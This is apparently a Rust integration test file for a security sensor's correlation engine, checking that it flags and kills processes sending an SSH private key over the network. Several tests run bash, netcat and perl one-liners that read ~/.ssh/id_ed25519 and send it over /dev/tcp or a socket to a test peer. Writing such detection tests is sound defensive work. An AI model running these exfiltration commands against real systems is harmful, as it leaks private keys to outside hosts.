//! The correlation engine, on secrets that really leave in either order and by two processes.

use std::{
    fs,
    os::unix::{fs::PermissionsExt, process::ExitStatusExt},
    path::{Path, PathBuf},
    process::{Command, Stdio},
};

use sentinel_tests::{
    bed::Bed,
    outside::{ADDRESS, Outside, PRIVATE_ADDRESS},
    sentinel::{PATIENCE, Sentinel, alerts, within},
};
use serde_json::Value;

/// Bytes of the key.
const KEY_BYTES: usize = 411;

fn key(bed: &Bed) -> PathBuf {
    let key = bed.path(".ssh").join("id_ed25519");
    fs::create_dir_all(bed.path(".ssh")).unwrap();
    fs::write(&key, "k".repeat(KEY_BYTES)).unwrap();
    fs::set_permissions(&key, fs::Permissions::from_mode(0o600)).unwrap();
    key
}

/// Has bash run `code` against a peer at `address`, and returns what the engine said of it. KEY, HOST and
/// PORT stand for what they say.
fn said(address: &str, code: &str) -> Option<Vec<Value>> {
    let bed = Bed::new()?;
    let (outside, key) = (Outside::new(), key(&bed));
    let log = bed.path("correlation.json");
    let option = format!("--correlation-log={}", log.display());
    // No step is too late on a busy machine.
    let arguments = ["--enable-correlation", "--correlation-timeout=20000", &option];
    let sentinel = Sentinel::start(&bed, &arguments);
    let (there, loot) = outside.peer(address);
    let code = code
        .replace("KEY", key.to_str().unwrap())
        .replace("HOST", address)
        .replace("PORT", &there.port().to_string());
    let mut command: Command = outside.command(&bed, "bash");
    let status = command.args(["-c", &code]).stdin(Stdio::null()).status().unwrap();
    assert!(status.success(), "{code}");
    assert!(within(PATIENCE, || loot.bytes().len() >= KEY_BYTES), "{code} sends nothing");
    let outcome = sentinel.stop();
    assert!(outcome.output.contains("data sent"), "{}", outcome.output);
    assert!(outcome.alerts.is_empty(), "patterns are off: {:#?}", outcome.alerts);
    let mut told = alerts(Path::new(&log));
    told.retain(|alert| alert["engine"] == "correlation");
    Some(told)
}

fn is_critical(alert: &Value) {
    let told = ["engine", "severity", "stage", "remote_ip"].map(|key| alert[key].as_str().unwrap());
    assert_eq!(told, ["correlation", "critical", "data_sent", ADDRESS], "{alert:#}");
    assert!(alert["file"].as_str().unwrap().ends_with("/.ssh/id_ed25519"));
    assert_eq!((&alert["score"], &alert["bytes_read"]), (&170.into(), &KEY_BYTES.into()));
    assert!(alert["bytes_sent"].as_u64().unwrap() >= 411, "{alert:#}");
}

#[test]
fn a_connection_and_then_a_reading() {
    let code = "exec 3<>/dev/tcp/HOST/PORT; cat <KEY >&3";
    let Some(alerts) = said(ADDRESS, code) else { return };
    is_critical(alerts.last().expect("told"));
}

#[test]
fn a_reading_and_then_a_connection() {
    let code = "read -r -N 411 key <KEY; exec 3<>/dev/tcp/HOST/PORT; printf %s \"$key\" >&3";
    let Some(alerts) = said(ADDRESS, code) else { return };
    let severities: Vec<&Value> = alerts.iter().map(|alert| &alert["severity"]).collect();
    assert_eq!(severities, ["warning", "critical"], "{alerts:#?}");
    assert_eq!((&alerts[0]["stage"], &alerts[0]["score"]), (&"network_opened".into(), &90.into()));
    is_critical(&alerts[1]);
}

#[test]
fn one_reads_and_another_sends() {
    let Some(alerts) = said(ADDRESS, "cat KEY | nc.openbsd -N HOST PORT") else { return };
    is_critical(alerts.last().expect("told"));
    let steps = alerts.last().unwrap()["steps"].to_string();
    assert!(steps.contains("through a pipe"), "{steps}");
}

#[test]
fn the_secret_as_it_is_is_critical_on_a_private_network_too() {
    let Some(alerts) = said(PRIVATE_ADDRESS, "cat KEY >/dev/tcp/HOST/PORT") else { return };
    let last = alerts.last().expect("told");
    assert_eq!((&last["severity"], &last["score"]), (&"critical".into(), &150.into()), "{last:#}");
}

#[test]
fn the_sender_ends_and_its_neighbour_lives() {
    let Some(bed) = Bed::new() else { return };
    let (outside, key) = (Outside::new(), key(&bed));
    let log = bed.path("correlation.json");
    let option = format!("--correlation-log={}", log.display());
    let sentinel = Sentinel::start(&bed, &["--enable-correlation", "--auto-terminate", &option]);
    assert!(sentinel.output.contains("enforce mode"), "{}", sentinel.output);
    let mut neighbour = bed.command("sleep").arg("300").spawn().unwrap();
    let (there, _loot) = outside.peer(ADDRESS);
    // It has connected and read long before it would end by itself.
    let code = format!(
        "socket S,2,1,0; connect S,pack_sockaddr_in({},inet_aton('{ADDRESS}')) or die; \
         open F,'<{}'; sysread F,$x,4096; syswrite S,$x; sleep 300",
        there.port(),
        key.display()
    );
    let mut sender = outside.command(&bed, "perl");
    let mut sender = sender.args(["-MSocket", "-e", &code]).spawn().unwrap();
    let mut ended = None;
    within(PATIENCE, || {
        ended = sender.try_wait().unwrap();
        ended.is_some()
    });
    let by = ended.and_then(|status| status.signal());
    let neighbour_lives = neighbour.try_wait().unwrap().is_none();
    for child in [&mut sender, &mut neighbour] {
        let _gone = child.kill();
        child.wait().unwrap();
    }
    sentinel.stop();
    let mut told = sentinel_tests::sentinel::alerts(&log);
    // What is about the sensor is there too.
    told.retain(|alert| alert["engine"] == "correlation");
    assert_eq!((by, neighbour_lives), (Some(9), true), "{told:#?}");
    let last = told.last().expect("told");
    assert_eq!((&last["action"], &last["pid"]), (&"terminated".into(), &sender.id().into()));
}
